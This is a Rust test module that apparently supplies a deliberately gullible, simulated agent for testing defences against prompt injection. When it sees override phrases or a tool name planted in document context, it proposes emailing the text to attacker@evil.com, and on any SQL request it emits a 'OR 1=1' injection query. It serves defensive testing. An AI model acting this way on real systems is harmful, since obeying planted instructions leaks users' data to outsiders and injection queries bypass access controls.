//! Side-effect-free collaborators for suites and tests.
//!
//! [`ScriptedProposer`] is deliberately gullible. It does whatever the text
//! in front of it says, which makes it a useful stand-in for a model that
//! has been prompt-injected.

use crate::collaborators::{Executor, Proposer};
use async_trait::async_trait;
use mediator_core::{Arguments, Proposal, ProposedAction, ToolKind, argument_str};
use regex::Regex;
use serde_json::json;
use std::sync::LazyLock;

/// Where the proposer sends anything it is tricked into leaking.
pub const ATTACKER_ADDRESS: &str = "attacker@evil.com";

/// The query it writes when asked for SQL.
pub const TAUTOLOGY_QUERY: &str = "SELECT * FROM users WHERE username = '' OR 1=1 --";

static EXPLICIT_EMAIL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bsend\b.*\bemail\b.*\bto\b\s+(\S+)").expect("valid regex")
});

static OVERRIDE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:ignore|override|debug mode)\b").expect("valid regex")
});

static TOOL_IN_CONTEXT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\bsend_email\b").expect("valid regex"));

/// A pattern-matching proposer that obeys instructions wherever it finds them.
///
/// Branches, first match wins:
/// 1. "send ... email ... to ADDR" in the input: email ADDR with the input as body.
/// 2. ignore/override/debug-mode phrasing in the input: email the input to
///    [`ATTACKER_ADDRESS`].
/// 3. `send_email` in the context: email the context to [`ATTACKER_ADDRESS`].
/// 4. "sql" in the input: run [`TAUTOLOGY_QUERY`].
/// 5. Otherwise reply without an action.
#[derive(Debug, Clone, Default)]
pub struct ScriptedProposer;

impl ScriptedProposer {
    pub fn new() -> Self {
        Self
    }

    pub fn decide(&self, user_input: &str, context: &str) -> Proposal {
        if let Some(caps) = EXPLICIT_EMAIL.captures(user_input) {
            let to = caps.get(1).map(|m| m.as_str().trim()).unwrap_or_default();
            return Proposal::act(
                "Sending an email (simulated).",
                ProposedAction::with_args(
                    ToolKind::SendEmail.as_str(),
                    [("to", to), ("body", user_input)],
                ),
            );
        }

        if OVERRIDE.is_match(user_input) {
            return Proposal::act(
                "Entering debug mode (simulated).",
                ProposedAction::with_args(
                    ToolKind::SendEmail.as_str(),
                    [("to", ATTACKER_ADDRESS), ("body", user_input)],
                ),
            );
        }

        if TOOL_IN_CONTEXT.is_match(context) {
            return Proposal::act(
                "Found administrative instructions in the document.",
                ProposedAction::with_args(
                    ToolKind::SendEmail.as_str(),
                    [("to", ATTACKER_ADDRESS), ("body", context)],
                ),
            );
        }

        if user_input.to_lowercase().contains("sql") {
            return Proposal::act(
                "Generated a SQL query (simulated).",
                ProposedAction::with_args(ToolKind::DbQuery.as_str(), [("query", TAUTOLOGY_QUERY)]),
            );
        }

        Proposal::reply("Informative reply, no tools needed.")
    }
}

#[async_trait]
impl Proposer for ScriptedProposer {
    async fn propose(&self, user_input: &str, context: &str) -> anyhow::Result<Proposal> {
        Ok(self.decide(user_input, context))
    }
}

/// Returns canned results instead of touching the network or a database.
#[derive(Debug, Clone, Default)]
pub struct SimulatedExecutor;

impl SimulatedExecutor {
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl Executor for SimulatedExecutor {
    async fn execute(&self, kind: ToolKind, args: &Arguments) -> anyhow::Result<serde_json::Value> {
        let result = match kind {
            ToolKind::SendEmail => {
                let body = argument_str(args, "body");
                json!({
                    "status": "sent(simulated)",
                    "to": argument_str(args, "to"),
                    "bytes": body.len(),
                })
            }
            ToolKind::DbQuery => json!({
                "status": "ok(simulated)",
                "rows": [{"id": 1, "name": "Alice"}, {"id": 2, "name": "Bob"}],
                "query": argument_str(args, "query"),
            }),
            ToolKind::HttpGet => json!({
                "status": "ok(simulated)",
                "url": argument_str(args, "url"),
                "code": 200,
                "body_preview": "<html>...</html>",
            }),
        };
        Ok(result)
    }
}
